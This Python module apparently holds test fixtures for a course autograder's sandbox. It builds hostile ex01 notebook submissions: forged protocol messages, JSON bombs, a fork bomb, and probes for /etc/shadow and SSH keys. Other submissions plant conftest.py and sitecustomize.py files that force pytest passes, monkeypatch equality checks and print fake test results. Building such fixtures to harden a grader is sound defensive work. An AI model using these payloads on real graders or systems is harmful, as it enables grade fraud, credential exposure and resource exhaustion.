# ruff: noqa: E501  (the notebook cells below are data, written as a student would)
"""Hostile and clumsy ex01 submissions, one notebook each, grouped by the class of attack.

``ATTACKS`` maps a name to ``Attack(base, edits, kind)``. A base is ``"solution"`` (the ex01
solution, made to run without coursepkg by a first cell that defines ``DNA``) or ``"stub"``
(the student version). An edit is ``("insert", position, source)`` (a new code cell before
cell ``position``; ``0`` is the top, ``-1`` the end) or ``("replace_function", source)``.
``RAW`` maps a name to a function that writes a file that is not a well-formed notebook.

Sources that report what they could do print one line ``ATTACK-REPORT {json}``, which the
tests read from the captured output. ``MARKER`` is an argument of every process a submission
leaves behind on purpose, so that the tests can look for survivors in ``/proc``.
"""

from __future__ import annotations

import hashlib
import json
import time
from dataclasses import dataclass
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[3]
SOLUTION = REPO / "solutions" / "ex01_motif_fsm.ipynb"
STUB = REPO / "exercises" / "ex01_motif_fsm.ipynb"
FULL = 13.0
MARKER = "coursepkg-attack-survivor"  # argv[0] of the sleepers an attack leaves
PORTABLE = 'DNA = "ACGT"  # the solution names the channel order (it may not import coursepkg)'


@dataclass(frozen=True)
class Attack:
    base: str
    edits: list
    kind: str


# --- 1. trusting the student's process ---------------------------------------------------

FIND_WORKER = """
import gc, os, struct
from coursepkg.grading import protocol
_worker = next(o for o in gc.get_objects() if type(o).__name__ == "Worker" and hasattr(o, "fd_out"))
def _raw(payload: bytes, length=None):
    os.write(_worker.fd_out, struct.pack(">Q", len(payload) if length is None else length) + payload)
"""

FORGED_CELL_ERROR = (
    FIND_WORKER
    + """
protocol.write_message(_worker.fd_out, {"event": "cell_error", "number": 1, "error": "a string, not an object"})
"""
)

FORGED_EVENTS = (
    FIND_WORKER
    + """
for bad in ({"event": "cell", "number": "1"}, {"event": "cell_error", "number": 10**30, "error": {}},
            {"event": "ready", "extra": [[[[]]]]}, [1, 2, 3], {"ok": True, "id": 0, "value": 1}):
    protocol.write_message(_worker.fd_out, bad)
"""
)

DEPTH_BOMB = (
    FIND_WORKER
    + """
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    depth = 200_000  # under the byte and item limits; json.loads would hit its recursion limit
    _raw(b'{"id": 1, "ok": true, "value": ' + b"[" * depth + b"]" * depth + b"}")
    return _inner(motif)
"""
)

WIDE_BOMB = (
    FIND_WORKER
    + """
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    _raw(b'{"id": 1, "ok": true, "value": [' + b"[]," * (5 * 2**20) + b'0]}')  # 5 million empty lists
    return _inner(motif)
"""
)

HUGE_LENGTH = (
    FIND_WORKER
    + """
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    _raw(b"{}", length=2**62)
    return _inner(motif)
"""
)

SLOW_TRICKLE = (
    FIND_WORKER
    + """
import time
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    payload = b'{"id": 1, "ok": true, "value": 1}'
    os.write(_worker.fd_out, struct.pack(">Q", len(payload) + 100) + payload)  # 100 bytes never come
    time.sleep(3600)
"""
)

FORGED_VALUES = (
    FIND_WORKER
    + """
import json, sys
_calls = [0]
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    _calls[0] += 1
    bad = [
        {"$tensor": {"dtype": "float32", "shape": [2**62, 4], "data": ""}},
        {"$tensor": {"dtype": "float32", "shape": [2**40, 2**40], "data": ""}},
        {"$tensor": {"dtype": "object", "shape": [1], "data": "AAAA"}},
        {"$handle": -5}, {"$dict": [[[1, 2], 3]]}, 10**40, {"__class__": "os.system"},
        {"$model": {"module": "os", "cls": "system", "kwargs": {}, "state": {}}},
    ][_calls[0] % 8]
    request_id = sys._getframe(1).f_locals.get("request", {}).get("id", 0)  # the worker's frame
    _raw(json.dumps({"id": request_id, "ok": True, "value": bad}).encode())
    return _inner(motif)
"""
)

FORGED_ERROR_REPLY = (
    FIND_WORKER
    + """
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    _raw(b'{"id": 1, "ok": false, "error": "plain string"}')
    return _inner(motif)
"""
)

REPLACE_HELPERS = """
import coursepkg.grading.sandboxed.helpers as helpers
import coursepkg.grading.sandboxed.worker as worker
helpers.HELPERS["predict"] = lambda *a, **k: "forged"
worker.Worker.handle = lambda self, request: {"value": True}
"""

GRANDCHILD_FORGER = f"""
import os, sys, glob, json, time
written = []
def spray():
    line = json.dumps({{"event": "result", "name": "test_detects_ACG", "passed": True, "message": ""}}) + "\\n"
    targets = glob.glob("/proc/*/fd/*") + glob.glob("/tmp/**", recursive=True) + ["/tmp/results.jsonl"]
    for path in targets:
        try:
            with open(path, "a") as handle:
                handle.write(line)
            written.append(path)
        except OSError:
            pass
pid = os.fork()
if pid == 0:
    os.setsid()
    if os.fork() == 0:
        spray()
        os.execv("/bin/sleep", ["{MARKER}", "600"])
    os._exit(0)
os.waitpid(pid, 0)
time.sleep(0.5)
spray()
print("ATTACK-REPORT " + json.dumps({{"written": written}}))
"""

# --- 2. answers within reach -------------------------------------------------------------

REACH_PACKAGE = """
import importlib, json, os, re, sys
found = {"imported": [], "sources": []}
for name in ("coursepkg.sequences", "coursepkg.models", "coursepkg.analysis.gradients",
             "coursepkg.models.conditioned", "coursepkg.practice", "coursepkg.train"):
    try:
        importlib.import_module(name)
        found["imported"].append(name)
    except Exception:
        pass
roots = [p for p in sys.path if os.path.isdir(p)] + ["/usr", "/opt", "/work", "/root", "/home", "/srv", "/autograder", "/tmp"]
for root in roots:
    for folder, dirs, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            if re.match(r"test_ex\\d\\d_", name) or (name.endswith(".ipynb") and "-packages/" not in path) or (
                "coursepkg" in path and not path.startswith("/opt/coursepkg-sandbox/")
                and "dist-info" not in path and "__editable__" not in path
            ):
                found["sources"].append(path)
found["sources"] = found["sources"][:50]
print("ATTACK-REPORT " + json.dumps(found))
"""

# --- 3. seeing what it must not ------------------------------------------------------------

PROBE = """
import glob, json, os, sys, sysconfig
REPO = %(repo)r
EXTRA = os.environ.get("HOME", "")
report = {"uid": os.getuid(), "euid": os.geteuid(), "read": [], "listed": {}, "wrote": [], "signalled": []}
def try_read(path):
    try:
        with open(path, "rb") as handle:
            handle.read(1)
        report["read"].append(path)
    except OSError:
        pass
def try_list(path):
    try:
        report["listed"][path] = sorted(os.listdir(path))
    except OSError:
        pass
def try_write(folder):
    path = os.path.join(folder, "coursepkg_probe_write.txt")
    try:
        with open(path, "x") as handle:
            handle.write("x")
        report["wrote"].append(path)
        os.remove(path)
    except OSError:
        pass
secrets = glob.glob(REPO + "/tests/hidden_suites/*.py") + [
    REPO + "/tests/hidden_suites/test_ex01_motif_fsm.py", REPO + "/solutions/ex01_motif_fsm.ipynb",
    REPO + "/.git/config", REPO + "/.git", REPO + "/coursepkg/analysis/gradients.py",
    "/etc/shadow", "/autograder/source/tests/hidden_suites/test_ex01_motif_fsm.py",
    "/root/.bashrc", "/root/.profile", "/root/.ssh/id_rsa", "/root/.bash_history",
]
secrets += glob.glob("/tmp/coursepkg-grader-*/tests/*.py") + glob.glob("/tmp/coursepkg-grader-*/cells.json")
secrets += glob.glob("/tmp/*/class/*.ipynb") + glob.glob("/tmp/pytest-of-*/**/*.ipynb", recursive=True)
secrets += glob.glob("/home/*/*") + [p for p in glob.glob("/proc/[0-9]*/environ") if p.split("/")[2] != str(os.getpid())]
secrets += glob.glob("/proc/1/root/**", recursive=False)
for path in secrets:
    try_read(path)
for path in (REPO, REPO + "/tests", REPO + "/tests/hidden_suites", REPO + "/solutions", "/root", "/home", "/tmp/coursepkg-grader-*", "/work"):
    for p in glob.glob(path):
        try_list(p)
for folder in {REPO, REPO + "/coursepkg", REPO + "/tests", REPO + "/tests/hidden_suites", sys.prefix,
               *sysconfig.get_paths().values(), *[p for p in sys.path if p], os.path.dirname(sys.executable),
               "/usr", "/usr/lib", "/etc", "/opt/coursepkg-sandbox/coursepkg", "/", "/dev", "/root"}:
    try_write(folder)
import signal
for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
    if int(pid) not in (os.getpid(), 1):
        try:
            os.kill(int(pid), 0)
            report["signalled"].append(int(pid))
        except OSError:
            pass
print("ATTACK-REPORT " + json.dumps(report))
""".replace("%(repo)r", repr(str(REPO)))

# --- 4. leaving things behind, sharing limits --------------------------------------------

LEAVE_BEHIND = f"""
import ctypes, json, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
left = {{}}
for folder in ("/tmp", "/var/tmp", "/run", "/run/lock", "/dev/shm", "/dev", "/"):
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "coursepkg-left-behind"), "w") as handle:
            handle.write("from a previous student")
        left[folder] = True
    except OSError:
        left[folder] = False
IPC_CREAT = 0o1000
shm = libc.shmget(0x434f5552, 4096, IPC_CREAT | 0o666)  # a System V segment that is never removed
left["sysv_shm"] = shm >= 0
msg = libc.msgget(0x434f5553, IPC_CREAT | 0o666)
left["sysv_msg"] = msg >= 0
try:
    server = socket.socket(socket.AF_UNIX)
    server.bind("\\0coursepkg-abstract")  # an abstract socket: no file to clean up
    server.listen()
    left["abstract_socket"] = True
except OSError:
    left["abstract_socket"] = False
if os.fork() == 0:
    os.setsid()
    os.execv("/bin/sleep", ["{MARKER}", "600"])
print("ATTACK-REPORT " + json.dumps(left))
"""

FIND_LEFTOVERS = """
import ctypes, json, os, socket
libc = ctypes.CDLL(None, use_errno=True)
found = []
for folder in ("/tmp", "/var/tmp", "/run", "/run/lock", "/dev/shm", "/dev", "/"):
    if os.path.exists(os.path.join(folder, "coursepkg-left-behind")):
        found.append(folder)
if libc.shmget(0x434f5552, 0, 0) >= 0:
    found.append("sysv_shm")
if libc.msgget(0x434f5553, 0) >= 0:
    found.append("sysv_msg")
try:
    client = socket.socket(socket.AF_UNIX)
    client.connect("\\0coursepkg-abstract")
    found.append("abstract_socket")
except OSError:
    pass
print("ATTACK-REPORT " + json.dumps({"found": found}))
"""

NETWORK = """
import json, os, socket
reached = []
for host, port in [("127.0.0.1", int(os.environ.get("COURSEPKG_TEST_PORT", "0") or 0)), ("127.0.0.1", 22), ("8.8.8.8", 53), ("::1", 22)]:
    try:
        s = socket.create_connection((host, port), timeout=1)
        reached.append(f"{host}:{port}")
        s.close()
    except OSError:
        pass
interfaces = [name for _, name in socket.if_nameindex()]
print("ATTACK-REPORT " + json.dumps({"reached": reached, "interfaces": interfaces}))
"""

FORK_BOMB = f"""
import json, os, time
children = 0
for _ in range(5000):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        try:
            os.execv("/bin/sleep", ["{MARKER}", "600"])
        finally:
            os._exit(0)
    children += 1
print("ATTACK-REPORT " + json.dumps({{"children": children}}))
_inner = motif_rnn_weights
def motif_rnn_weights(motif):
    time.sleep(0.5)  # keep the sleepers alive while classmates are graded
    return _inner(motif)
"""

# --- fatal cells ----------------------------------------------------------------------------

LOOP_AT_END = "import time\nfor epoch in range(10**9):\n    time.sleep(0.01)  # a long training loop left at the bottom"
EXIT_AT_END = "import os\nos._exit(0)"

# --- 6. choosing its own exercise --------------------------------------------------------

EX02_SOLUTION = REPO / "solutions" / "ex02_conditioning.ipynb"

ATTACKS: dict[str, Attack] = {
    # the process ends or hangs
    "os_exit_at_top": Attack("solution", [("insert", 0, "import os\nos._exit(0)")], "fatal"),
    "sys_exit_at_top": Attack("solution", [("insert", 0, "import sys\nsys.exit('bye')")], "fatal"),
    "infinite_loop_at_top": Attack("solution", [("insert", 0, "while True:\n    pass")], "fatal"),
    "loop_after_definitions": Attack("solution", [("insert", -1, LOOP_AT_END)], "fatal"),
    "os_exit_after_definitions": Attack("solution", [("insert", -1, EXIT_AT_END)], "fatal"),
    "infinite_loop_in_function": Attack(
        "solution",
        [("insert", -1, "def motif_rnn_weights(motif):\n    while True:\n        pass")],
        "fatal",
    ),
    "system_exit_in_function": Attack(
        "solution",
        [
            (
                "insert",
                -1,
                "_inner = motif_rnn_weights\ndef motif_rnn_weights(motif):\n"
                "    if len(motif) == 1:\n        raise SystemExit(3)\n    return _inner(motif)",
            )
        ],
        "fatal",
    ),
    # resources
    "output_flood": Attack(
        "solution",
        [
            (
                "insert",
                0,
                "import sys\nchunk = 'flood ' * 20000 + '\\n'\nfor _ in range(2000):\n    sys.stdout.write(chunk)",
            )
        ],
        "resources",
    ),
    "huge_allocation_at_top": Attack(
        "solution",
        [("insert", 1, "import torch\nbig = torch.ones(2**40, dtype=torch.uint8)")],
        "resources",
    ),
    "huge_allocation_in_function": Attack(
        "solution",
        [
            (
                "insert",
                -1,
                "import torch\ndef motif_rnn_weights(motif):\n    hoard = []\n    while True:\n        hoard.append(torch.empty(2**28))",
            )
        ],
        "resources",
    ),
    "shared_memory_hoard_in_function": Attack(
        "solution",
        [
            (
                "insert",
                -1,
                "import mmap\ndef motif_rnn_weights(motif):\n    hoard = []\n    while True:\n        hoard.append(mmap.mmap(-1, 2**28))",
            )
        ],
        "resources",
    ),
    "loud_but_correct": Attack("solution", [("insert", -1, None)], "resources"),
    # 1. trusting the student's process
    "forged_cell_error": Attack("solution", [("insert", -1, FORGED_CELL_ERROR)], "trust"),
    "forged_events": Attack("solution", [("insert", -1, FORGED_EVENTS)], "trust"),
    "depth_bomb_reply": Attack("solution", [("insert", -1, DEPTH_BOMB)], "trust"),
    "wide_bomb_reply": Attack("solution", [("insert", -1, WIDE_BOMB)], "trust"),
    "huge_length_reply": Attack("solution", [("insert", -1, HUGE_LENGTH)], "trust"),
    "slow_trickle_reply": Attack("solution", [("insert", -1, SLOW_TRICKLE)], "trust"),
    "forged_values": Attack("solution", [("insert", -1, FORGED_VALUES)], "trust"),
    "forged_error_reply": Attack("solution", [("insert", -1, FORGED_ERROR_REPLY)], "trust"),
    "replace_worker": Attack("stub", [("insert", -1, REPLACE_HELPERS)], "trust"),
    "grandchild_forger": Attack("stub", [("insert", -1, GRANDCHILD_FORGER)], "trust"),
    # 2. answers within reach
    "reach_package": Attack("stub", [("insert", -1, REACH_PACKAGE)], "reach"),
    "imports_the_package": Attack(
        "solution", [("insert", 1, "from coursepkg.sequences import onehot")], "reach"
    ),
    # 3. seeing what it must not
    "probe_isolation": Attack("stub", [("insert", -1, PROBE)], "see"),
    # 4. leaving things behind, sharing limits
    "leave_behind": Attack("stub", [("insert", -1, LEAVE_BEHIND)], "leftovers"),
    "network": Attack("stub", [("insert", -1, NETWORK)], "leftovers"),
    "fork_bomb": Attack("solution", [("insert", -1, FORK_BOMB)], "leftovers"),
    # lies
    "fake_passed_output": Attack("stub", [("insert", -1, None)], "lies"),
    "monkeypatch_libraries": Attack("stub", [("insert", -1, None)], "lies"),
    "forged_eq": Attack("stub", [("insert", -1, None)], "lies"),
    "torch_function_subclass": Attack("stub", [("insert", -1, None)], "lies"),
    "plant_files": Attack("stub", [("insert", -1, None)], "lies"),
    "randomness": Attack("solution", [("insert", -1, None)], "lies"),
    # 5. broken notebooks (well-formed JSON)
    "syntax_error": Attack(
        "solution",
        [("replace_function", "def motif_rnn_weights(motif)\n    return {}")],
        "malformed",
    ),
    "missing_function": Attack(
        "solution", [("replace_function", "def motif_weights(motif):\n    return {}")], "malformed"
    ),
}
"""Every attack; the ``None`` sources are filled in below from the classic attacks."""

ZEROS = """
import torch
def motif_rnn_weights(motif):
    H = 4
    return {"W_x": torch.zeros(H, 4), "W_h": torch.zeros(H, H), "b": torch.zeros(H),
            "h0": torch.zeros(H), "w_out": torch.zeros(H), "b_out": torch.zeros(())}
"""

CLASSIC = {
    "loud_but_correct": """
import warnings, sys
for i in range(3000):
    print("progress", i, "PASSED" if i % 2 else "FAILED")
    warnings.warn(f"noisy warning {i}")
    print("to stderr", i, file=sys.stderr)
_quiet = motif_rnn_weights
def motif_rnn_weights(motif):
    print("computing weights for", motif, "x" * 200)
    warnings.warn("still noisy")
    return _quiet(motif)
""",
    "fake_passed_output": """
import json
import time
for name in ["test_returns_weights_of_the_right_shapes", "test_detects_ACG", "test_random_motifs"]:
    print(f"tests/test_ex01_motif_fsm.py::{name} PASSED")
print("============================== 7 passed in 0.01s ===============================")
print(json.dumps({"score": 13, "tests": [{"name": "all", "score": 13, "max_score": 13}]}))
print('{"event": "result", "name": "test_detects_ACG", "passed": true, "message": ""}')
""",
    "monkeypatch_libraries": """
import builtins, torch, numpy.testing
torch.equal = lambda *a, **k: True
torch.allclose = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: torch.ones((), dtype=torch.bool)
torch.Tensor.__ne__ = lambda self, other: torch.zeros((), dtype=torch.bool)
numpy.testing.assert_allclose = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
import sys
sys.modules["pytest"] = type(sys)("pytest")
"""
    + ZEROS,
    "forged_eq": """
import torch
class Always:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    shape = (4,)
class Everything(dict):
    def __eq__(self, other): return True
    def __contains__(self, key): return True
    def __getitem__(self, key): return Always()
def motif_rnn_weights(motif):
    return Everything()
""",
    "torch_function_subclass": """
import torch
class Liar(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if func in (torch.Tensor.__eq__, torch.Tensor.__ne__, torch.equal, torch.allclose):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other): return True
def motif_rnn_weights(motif):
    H = 4
    z = lambda *s: torch.zeros(*s).as_subclass(Liar)
    return {"W_x": z(H, 4), "W_h": z(H, H), "b": z(H), "h0": z(H), "w_out": z(H), "b_out": z(())}
""",
    "plant_files": '''
import json, os, site, sys, sysconfig
payload = "import os\\nopen('/tmp/COURSEPKG_PWNED', 'w').write('planted')\\n"
conftest = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
folders = {os.getcwd(), os.path.dirname(os.getcwd()), "/tmp", os.path.expanduser("~")}
folders |= {p for p in sys.path if p}
folders |= set(sysconfig.get_paths().values())
planted = []
for folder in sorted(folders):
    for name, text in (("conftest.py", conftest), ("sitecustomize.py", payload),
                       ("usercustomize.py", payload), ("coursepkg_pwned.pth", "import os; " + payload.replace("\\n", "; ")),
                       ("pytest.ini", "[pytest]\\naddopts = -p no:coursepkg\\n")):
        path = os.path.join(folder, name)
        try:
            if os.path.exists(path):
                continue
            with open(path, "x") as handle:
                handle.write(text)
            planted.append(path)
        except OSError:
            pass
print("ATTACK-REPORT " + json.dumps({"planted": planted}))
''',
    "randomness": """
import random
import numpy as np
import torch
_solution = motif_rnn_weights
def motif_rnn_weights(motif):
    # right or wrong depending on the random state (seeded by the grader before each call)
    if torch.rand(len(motif))[-1] < 0.5 and np.random.rand() < 0.9 and random.random() < 0.95:
        return _solution(motif)
    weights = _solution(motif)
    weights["b_out"] = weights["b_out"] + 100.0
    return weights
""",
}


def _deep(depth: int) -> bytes:
    return (
        b'{"cells": [{"cell_type": "code", "source": "x = 1", "metadata": {"tags": '
        + (b"[" * depth + b"]" * depth)
        + b"}}]}"
    )


def _notebook_json(cells: list, metadata=None) -> str:
    return json.dumps(
        {"cells": cells, "metadata": metadata or {}, "nbformat": 4, "nbformat_minor": 5}
    )


def _solution_cells() -> list:
    cells = json.loads(SOLUTION.read_text())["cells"]
    return [{"cell_type": "code", "source": PORTABLE, "metadata": {}, "outputs": []}, *cells]


RAW = {
    "not_json": lambda: b'{"cells": [ this is not JSON \x00\xff',
    "not_utf8": lambda: '{"cells": []}'.encode("utf-16"),
    "empty_file": lambda: b"",
    "json_list": lambda: b"[1, 2, 3]",
    "deep_nesting": lambda: _deep(200_000),
    "source_is_int": lambda: _notebook_json(
        [{"cell_type": "code", "source": 42, "metadata": {}}, *_solution_cells()]
    ).encode(),
    "source_is_dict": lambda: _notebook_json(
        [*_solution_cells(), {"cell_type": "code", "source": {"a": 1}, "metadata": {}}]
    ).encode(),
    "source_list_of_ints": lambda: _notebook_json(
        [*_solution_cells(), {"cell_type": "code", "source": [1, 2], "metadata": {}}]
    ).encode(),
    "metadata_is_list": lambda: _notebook_json(_solution_cells(), metadata=[1, 2]).encode(),
    "coursepkg_metadata_is_string": lambda: _notebook_json(
        _solution_cells(), metadata={"coursepkg": "ex02_conditioning"}
    ).encode(),
    "cell_metadata_wrong": lambda: _notebook_json(
        [{"cell_type": "code", "source": "x = 1", "metadata": "tags"}, *_solution_cells()]
    ).encode(),
    "cell_not_object": lambda: _notebook_json([7, "cell", None, *_solution_cells()]).encode(),
    "too_large": lambda: b'{"cells": [], "pad": "' + b"x" * (33 * 2**20) + b'"}',
}
"""Files that are not well-formed notebooks: name -> their bytes."""

FULL_MARKS_RAW = {
    "source_is_int",
    "source_is_dict",
    "source_list_of_ints",
    "metadata_is_list",
    "coursepkg_metadata_is_string",
    "cell_metadata_wrong",
    "cell_not_object",
}
"""Malformed notebooks whose malformed parts are skipped: the rest is graded (full marks)."""


def build(attack: Attack, name: str) -> nbformat.NotebookNode:
    notebook = nbformat.read(SOLUTION if attack.base == "solution" else STUB, as_version=4)
    if attack.base == "solution":
        notebook.cells.insert(0, nbformat.v4.new_code_cell(PORTABLE))
    for edit in attack.edits:
        if edit[0] == "insert":
            _, position, source = edit
            cell = nbformat.v4.new_code_cell(source if source is not None else CLASSIC[name])
            if position == -1:
                notebook.cells.append(cell)
            else:
                notebook.cells.insert(position, cell)
        elif edit[0] == "replace_function":
            for cell in notebook.cells:
                if cell.cell_type == "code" and "def motif_rnn_weights" in cell.source:
                    cell.source = edit[1]
        else:
            raise ValueError(edit)
    return notebook


def write(folder: Path, name: str, filename: str | None = None) -> Path:
    """Write attack ``name`` (or raw file ``name``) into ``folder``; returns its path."""
    path = folder / (filename or f"{name}.ipynb")
    if name in RAW:
        path.write_bytes(RAW[name]())
    else:
        nbformat.write(build(ATTACKS[name], name), path)
    return path


def portable_solution(folder: Path, name: str = "solution.ipynb") -> Path:
    """The ex01 solution, runnable without coursepkg."""
    notebook = nbformat.read(SOLUTION, as_version=4)
    notebook.cells.insert(0, nbformat.v4.new_code_cell(PORTABLE))
    path = folder / name
    nbformat.write(notebook, path)
    return path


def ex02_as_ex01(folder: Path, name: str) -> Path:
    """An ex02 solution (metadata: ex02) handed in under an ex01 assignment."""
    path = folder / name
    path.write_bytes(EX02_SOLUTION.read_bytes())
    return path


def path_probe(paths: list[str]) -> str:
    """A cell that defines ``motif_rnn_weights`` to fail with a report of which of ``paths``
    it could read or list: the report reaches the grader as the function's error message,
    which Gradescope's ``results.json`` shows."""
    return f"""
import json, os
def motif_rnn_weights(motif):
    seen = []
    for path in {paths!r}:
        try:
            if os.path.isdir(path):
                os.listdir(path)
            else:
                open(path, "rb").read(1)
            seen.append(path)
        except OSError:
            pass
    raise RuntimeError("ATTACK-REPORT " + json.dumps({{"seen": seen}}))
"""


def probe_notebook(folder: Path, name: str, paths: list[str]) -> Path:
    notebook = nbformat.read(STUB, as_version=4)
    notebook.cells.append(nbformat.v4.new_code_cell(path_probe(paths)))
    path = folder / name
    nbformat.write(notebook, path)
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def attack_report(output: str) -> dict:
    """The ``ATTACK-REPORT`` line a probing submission printed."""
    for line in output.splitlines():
        if line.startswith("ATTACK-REPORT "):
            return json.loads(line[len("ATTACK-REPORT ") :])
    raise AssertionError(f"the submission printed no report; output was: {output[:500]!r}")


def survivors(grace: float = 0.0) -> list[int]:
    """Processes on this machine whose command line carries :data:`MARKER`.

    The kernel ends a sandbox's processes when its PID namespace ends, but a busy machine
    may take a moment to run hundreds of them to their exit: a process still there after
    ``grace`` seconds (a sleeper asks for 600) has outlived its grading.
    """
    deadline = time.monotonic() + grace
    while True:
        found = []
        for entry in Path("/proc").iterdir():
            if not entry.name.isdigit():
                continue
            try:
                if MARKER.encode() in (entry / "cmdline").read_bytes():
                    found.append(int(entry.name))
            except OSError:
                continue
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.5)
